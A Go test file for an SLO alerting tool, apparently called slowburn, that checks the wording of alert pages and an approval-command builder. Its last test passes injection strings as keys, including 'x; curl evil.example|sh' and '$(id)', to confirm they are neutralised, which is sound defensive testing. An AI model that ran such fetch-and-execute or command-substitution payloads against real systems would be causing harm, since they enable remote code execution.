package sentences_test

import (
	"testing"
	"time"

	"github.com/slowburn-sre/slowburn/alerting"
	"github.com/slowburn-sre/slowburn/budget"
	"github.com/slowburn-sre/slowburn/internal/sentences"
	"github.com/slowburn-sre/slowburn/slo"
)

// TestPredicates: what a page says in one line, and that what is not known is never a figure.
func TestPredicates(t *testing.T) {
	const unit = budget.Unit
	objective, err := slo.ParseObjective("99.9")
	if err != nil {
		t.Fatal(err)
	}
	onset := time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC)
	at := budget.MinuteOf(onset.Add(10 * time.Minute))
	facts := func(change func(*sentences.Facts)) sentences.Facts {
		f := sentences.Facts{
			Spec:   &slo.Spec{Service: "shop", Name: "pay", Objective: objective, Windows: []slo.Window{{Rolling: 28 * slo.Day}}},
			Event:  alerting.Event{SLO: "shop/pay", At: at, Kind: alerting.Opened, Severity: alerting.Page, Rule: alerting.RulePage},
			Status: budget.Status{Sum: budget.Sum{Bad: 7504 * unit, Total: 1e7 * unit}, Allowed: 10_000 * unit, Spent: 0.7504, Sized: true},
		}
		f.Incident = alerting.Incident{ID: "i", Open: true, Severity: alerting.Page, Rule: alerting.RulePage, Onset: onset, Detected: onset.Add(5 * time.Minute), Last: f.Event}
		change(&f)
		return f
	}
	ended := func(reason alerting.Reason) func(*sentences.Facts) {
		return func(f *sentences.Facts) {
			f.Incident.Open, f.Incident.Ended = false, onset.Add(9*time.Minute)
			f.Event.Reason, f.Incident.Last.Reason = reason, reason
		}
	}
	for name, c := range map[string]struct {
		change func(*sentences.Facts)
		want   string
	}{
		"a burn that is not known is no figure": {func(*sentences.Facts) {}, "burns its error budget too fast; 24.9 % of the budget left"},
		"nor is one without traffic": {
			func(f *sentences.Facts) { f.Incident.Last.Long = &budget.Sum{} }, "burns its error budget too fast; 24.9 % of the budget left",
		},
		"a burn is rounded down, so it never reaches its threshold": {
			func(f *sentences.Facts) { f.Incident.Last.Long = &budget.Sum{Bad: 13439 * unit, Total: 1e6 * unit} },
			"burns its error budget 13.43× too fast; 24.9 % of the budget left",
		},
		"a cost is rounded up": {func(f *sentences.Facts) {
			f.Incident.Open, f.Incident.Ended = false, onset.Add(9*time.Minute)
			f.Incident.Last.Burn, f.Incident.Last.Budget.Allowed = &alerting.Burning{Bad: 3561 * unit}, 10_000*unit
		}, "burned for 9 min and took 35.7 % of its error budget"},
		"what was over before it could be seen is told so": {func(f *sentences.Facts) {
			f.Incident.Open, f.Over, f.Now = false, true, onset.Add(time.Hour)
		}, "burned for 11 min while slowburn could not see it; it is over"},
		"an overspent budget has none left when its freeze ends": {func(f *sentences.Facts) {
			f.Event.Rule, f.Event.Reason, f.Status.Sum.Bad = alerting.RulePolicy, alerting.PolicyThawed, 10_001*unit
		}, "may be released again; none of its error budget is left"},
		"of a budget of which too little is known no share is told": {
			func(f *sentences.Facts) { f.Status.Sized = false }, "burns its error budget too fast",
		},
		"nor that it is spent": {
			func(f *sentences.Facts) { f.Status.Sized, f.Status.Spent, f.Outlook.Gone = false, 2, true },
			"burns its error budget too fast",
		},
		"what an incident took of it is about so much": {func(f *sentences.Facts) {
			f.Incident.Open, f.Incident.Ended = false, onset.Add(9*time.Minute)
			f.Incident.Last.Burn = &alerting.Burning{Bad: 3561 * unit}
			f.Incident.Last.Budget = alerting.Account{Allowed: 10_000 * unit, Projected: true}
		}, "burned for 9 min and took about 35.7 % of its error budget"},
		"what was removed has not recovered": {
			ended(alerting.SLORemoved), "is no longer watched: its SLO was removed or renamed while it burned for 9 min",
		},
		"nor has what lost its alerts": {ended(alerting.RuleRemoved), "has no such alert any more; it burned for 9 min until then"},
		"nor has what promises less": {
			ended(alerting.PromiseChanged), "keeps what its SLO promises now; it still burns by what was promised when this began",
		},
		"nor has what a wrong clock has opened": {
			ended(alerting.TimeWentBack), "burned for 9 min by a clock that was ahead; its minutes are decided again",
		},
		"missing data": {func(f *sentences.Facts) { f.Event.Rule = alerting.RuleNoData }, "has had no data for 11 min; nothing can be said about it"},
	} {
		t.Run(name, func(t *testing.T) {
			if got := facts(c.change).Predicate(); got != c.want {
				t.Errorf("says %q\n   want %q", got, c.want)
			}
		})
	}
}

// TestActs: who did what, with what the person wrote apart from it.
func TestActs(t *testing.T) {
	at := time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC)
	f := sentences.Facts{Event: alerting.Event{Rule: alerting.RulePage}, Incident: alerting.Incident{
		Open: true, Severity: alerting.Page, Acts: []alerting.Act{{Key: "a", Kind: alerting.Acknowledge}},
	}}
	for want, act := range map[string]alerting.Act{
		"ana has acknowledged this page and the 2 other incidents of this thread, 2026-11-23 12:00 UTC.": {Kind: alerting.Acknowledge, By: "ana", At: at},
		"ana has silenced this until the budget recovers. It is still counted, and this thread goes on.": {Kind: alerting.Silence, By: "ana"},
		"ana has taken back what was done: nobody has it.":                                               {Kind: alerting.Undo, By: "ana", Other: "a"},
		"ana has made this a ticket.": {Kind: alerting.Escalate, By: "ana", Level: alerting.Ticket},
		"ana says:":                   {Kind: alerting.Remark, By: "ana", Text: "the card terminal is down"},
	} {
		said := f.Act(act, 2)
		if got := said[0].String(); got != want {
			t.Errorf("says %q\n   want %q", got, want)
		}
		if act.Text != "" && (len(said) != 2 || said[1].String() != act.Text || !said[1][0].Quote) {
			t.Errorf("what was written is told as %v", said)
		}
	}
}

// TestWhereItIsTold: a thread says where an incident is told, and what it is to the one that has
// left.
func TestWhereItIsTold(t *testing.T) {
	moved := sentences.Facts{Event: alerting.Event{SLO: "shop/checkout"}}
	merged := alerting.Incident{Acts: []alerting.Act{{Key: "k", Kind: alerting.Merge, Other: "till/latency/page/1"}}}
	for want, got := range map[string]sentences.Text{
		"shop/checkout is told in this thread from now on.":                        moved.Moved(true),
		"shop/checkout is told in another thread from now on.":                     moved.Moved(false),
		"It was merged into till/latency/page/1, in whose thread it is told.":      sentences.ToldIn(merged),
		"It burned together with till/latency/page/1, in whose thread it is told.": sentences.ToldIn(alerting.Incident{Group: "till/latency/page/1"}),
		"":                                       sentences.ToldIn(alerting.Incident{}),
		"Nobody has acknowledged this page yet.": sentences.Facts{Event: alerting.Event{Reason: alerting.Unacknowledged}}.Reminder(),
		"The silence is over, and it still burns.": sentences.Facts{Event: alerting.Event{Reason: alerting.SilenceOver}}.Reminder(),
	} {
		if got.String() != want {
			t.Errorf("says %q\n   want %q", got, want)
		}
	}
}

// TestACommandToCopyIsOneCommand: whoever asks for something chooses its key, and whoever approves
// it copies the command.
func TestACommandToCopyIsOneCommand(t *testing.T) {
	for key, want := range map[string]string{
		"D2HSZIZONFOTGC2QGF44PU2IZO": "slowburn approvals approve D2HSZIZONFOTGC2QGF44PU2IZO",
		"web/0a1b@x:y.z_-":           "slowburn approvals approve web/0a1b@x:y.z_-",
		"x; curl evil.example|sh":    "slowburn approvals approve KEY",
		"$(id)":                      "slowburn approvals approve KEY",
		"`id`":                       "slowburn approvals approve KEY",
		"a\nb":                       "slowburn approvals approve KEY",
		"--url=http://evil.example":  "slowburn approvals approve KEY",
		"ключ":                       "slowburn approvals approve KEY",
	} {
		if got := sentences.ApproveBy(key); got != want {
			t.Errorf("%q: %s", key, got)
		}
	}
}
